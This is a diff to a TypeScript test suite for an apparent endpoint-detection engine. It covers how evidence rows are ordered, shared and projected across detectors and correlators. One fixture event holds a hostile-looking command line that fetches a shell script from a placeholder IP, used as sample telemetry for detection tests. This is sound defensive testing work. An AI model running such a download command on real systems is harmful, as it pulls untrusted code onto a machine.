@@ -75,6 +75,45 @@ describe('evidence memory', () => {
       ProcessCommandLine: 'curl -s http://203.0.113.1/x.sh',
       ReportId: '700000000000000001',
     });
+    // In the row's order, as whole rows were listed.
+    expect(Object.keys(result.alerts[0]!.evidence.events[0]!.fields)).toEqual([
+      'Timestamp',
+      'DeviceId',
+      'DeviceName',
+      'ActionType',
+      'ProcessCommandLine',
+      'ReportId',
+    ]);
+  });
+
+  it('device snapshots stay the objects the device state holds', async () => {
+    const seen: MdeEvent[][] = [];
+    const info = makeEvent('DeviceInfo', {
+      Timestamp: '2025-11-07T06:00:01.3691661Z',
+      DeviceId: DEVICE,
+      DeviceName: NAME,
+      OSPlatform: 'Linux',
+      MachineGroup: 'UnassignedGroup',
+      ReportId: '700000000000014801',
+    });
+    let state: MdeEvent | undefined;
+    const d = defineDetector({
+      meta: {
+        ...META,
+        id: 'test/info',
+        title: 'info',
+        tables: ['DeviceInfo'],
+        evidence: { group: { from: 'MachineGroup', combine: 'first' } },
+      },
+      match: () => ({}),
+      render: (g: AlertGroup) => {
+        seen.push([...g.events]);
+        state = g.device.info;
+        return undefined;
+      },
+    } as unknown as Detector);
+    await analyzeEvents([info], { detectors: [d], generatedAt: 'x' });
+    expect(seen[0]![0]).toBe(state);
   });
 
   it('one row kept by several detectors is one object, holding the columns any of them keeps', async () => {
@@ -83,7 +122,8 @@ describe('evidence memory', () => {
     const b = curl('test/curl-b', seen, { parent: { from: 'InitiatingProcessFileName', combine: 'first' } });
     let gathered = 0;
     const correlator = defineDetector({
-      meta: { ...META, id: 'test/curl-z', title: 'both', tables: [] },
+      // A correlator's alerts show borrowed rows with its own columns: projections keep them too.
+      meta: { ...META, id: 'test/curl-z', title: 'both', tables: [], columns: ['FolderPath'] },
       correlate: (input: CorrelationInput) => {
         const events: MdeEvent[] = [];
         for (const alert of input.alerts) for (const e of alert.events) if (!events.includes(e)) events.push(e);
@@ -96,7 +136,8 @@ describe('evidence memory', () => {
     expect(seen[0]![0]).toBe(seen[1]![0]);
     expect(gathered).toBe(1);
     expect(seen[0]![0]!.has('ProcessCommandLine') && seen[0]![0]!.has('InitiatingProcessFileName')).toBe(true);
-    expect(seen[0]![0]!.has('FolderPath')).toBe(false);
+    expect(seen[0]![0]!.has('FolderPath')).toBe(true);
+    expect(seen[0]![0]!.has('ProcessId')).toBe(false);
     // Each alert's evidence shows its own detector's columns.
     const fields = result.alerts.map((x) => Object.keys(x.evidence.events[0]!.fields).sort());
     expect(fields).toContainEqual([
